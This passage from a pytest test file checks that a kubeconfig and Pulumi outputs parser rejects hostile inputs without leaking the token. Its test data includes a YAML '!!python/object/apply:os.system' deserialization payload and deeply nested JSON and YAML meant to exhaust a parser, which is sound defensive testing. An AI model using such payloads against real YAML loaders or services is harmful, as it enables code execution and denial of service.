        assert outputs.image_repository_url == repository


NOT_USABLE = "is not a usable kubeconfig"
KUBECONFIGS = [
    ("not YAML", f"{TOKEN}: [unclosed", "is neither JSON nor YAML"),
    ("broken JSON", '{"users": [{"user": {"token": "' + TOKEN + '"', "is neither JSON nor YAML"),
    ("plain text", f"token {TOKEN}", "is not a kubeconfig (it lists no clusters)"),
    ("python object tag", f"!!python/object/apply:os.system ['echo {TOKEN}']", "is neither JSON nor YAML"),
    ("20 000 nested JSON objects", "{" + '"a":{' * 20_000 + "}" * 20_001, "is neither JSON nor YAML"),
    ("5000 nested YAML lists", "a: " + "[" * 5000 + "]" * 5000, "is neither JSON nor YAML"),
    ("impossible date", f"token: {TOKEN}\ndate: 2024-13-01", "is neither JSON nor YAML"),
    ("5000-digit number", f"token: {TOKEN}\nn: {NINES}", "is neither JSON nor YAML"),
    # The Kubernetes client raised AttributeError (a traceback) on the next two.
    ("server is a number", kubeconfig_with(clusters=[{"name": "test", "cluster": {"server": 5}}]),
     f"{NOT_USABLE} (clusters[0] has no server URL)"),
    ("context is text", kubeconfig_with(contexts=[{"name": "test", "context": "zz"}]),
     f"{NOT_USABLE} (its current-context names no entry in contexts)"),
    ("cluster entry is a number", json.dumps({"clusters": [1]}), f"{NOT_USABLE} (clusters[0] has no server URL)"),
    ("server over plain http", kubeconfig_with("http://eks.example.invalid"), f"{NOT_USABLE} (clusters[0]'s server: {CLEAR_TEXT})"),
    ("credentials in the server URL", kubeconfig_with("https://u:p@eks.example.invalid"),
     f"{NOT_USABLE} (clusters[0]'s server: it must be the API server's https:// URL without credentials "
     "(user:password@); the kubeconfig holds them)"),
    ("no current context", kubeconfig_with(**{"current-context": None}), f"{NOT_USABLE} (it has no current-context)"),
    ("current context missing", kubeconfig_with(**{"current-context": "other"}),
     f"{NOT_USABLE} (its current-context names no entry in contexts)"),
    ("context names no cluster", kubeconfig_with(contexts=[{"name": "test", "context": {"cluster": "x", "user": "test"}}]),
     f"{NOT_USABLE} (the current context names no entry in clusters)"),
    ("context names no user", kubeconfig_with(users=[]), f"{NOT_USABLE} (the current context names no entry in users)"),
    ("hidden secret", "[secret]", "is hidden as [secret]; export it with `pulumi stack output --json --show-secrets`"),
]


@pytest.mark.parametrize("kubeconfig, expected", [c[1:] for c in KUBECONFIGS], ids=[c[0] for c in KUBECONFIGS])
def test_hostile_kubeconfigs(kubeconfig: str, expected: str) -> None:
    """A kubeconfig output that is not YAML/JSON, or that could not configure a client or would
    send its token in clear text, is one line that never quotes it."""
    message = outputs_error(kubeconfig=kubeconfig)
    fix = "" if expected.startswith("is hidden") else f"; {FIX}"
    assert message == f"stack output kubeconfig in outputs.json {expected}{fix}"
    assert TOKEN not in message


@pytest.mark.parametrize(
    "kubeconfig",
    [kubeconfig_with(), kubeconfig_with("http://127.0.0.1:1"), yaml.safe_dump(kubeconfig_for("https://eks.example.invalid"))],
)
def test_an_accepted_kubeconfig_configures_the_client(kubeconfig: str) -> None:
    """Whatever parse_kubeconfig lets through, the Kubernetes client can be built from
    (no request is made: building only reads the mapping)."""
    outputs = parse_outputs(stack_outputs(kubeconfig=kubeconfig), required=SUBMIT_KEYS, source="o")
    assert core_api(outputs.kubeconfig).api_client.configuration.api_key == {"BearerToken": f"Bearer {TOKEN}"}


OUTPUT_FILES = [
    ("20 000 nested arrays", "[" * 20_000, "not JSON stack outputs (nested too deeply)"),
    ("5000-digit number", '{"a": ' + NINES + "}", "not JSON stack outputs (a number is too long to read)"),
    ("not UTF-8", b"\xff\xfe{", None),
]


@pytest.mark.parametrize("content, expected", [c[1:] for c in OUTPUT_FILES], ids=[c[0] for c in OUTPUT_FILES])
def test_hostile_outputs_files(tmp_path: Path, content: str | bytes, expected: str | None) -> None:
    path = tmp_path / "outputs.json"
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    with pytest.raises(OutputsError) as raised:
        read_outputs_file(path)
    if expected is None:
        assert str(raised.value) == f"--outputs {path}: cannot be read (UnicodeDecodeError); check the path"
    else:
        assert str(raised.value) == f"--outputs {path}: {expected}; write it with `pulumi stack output --json --show-secrets`"
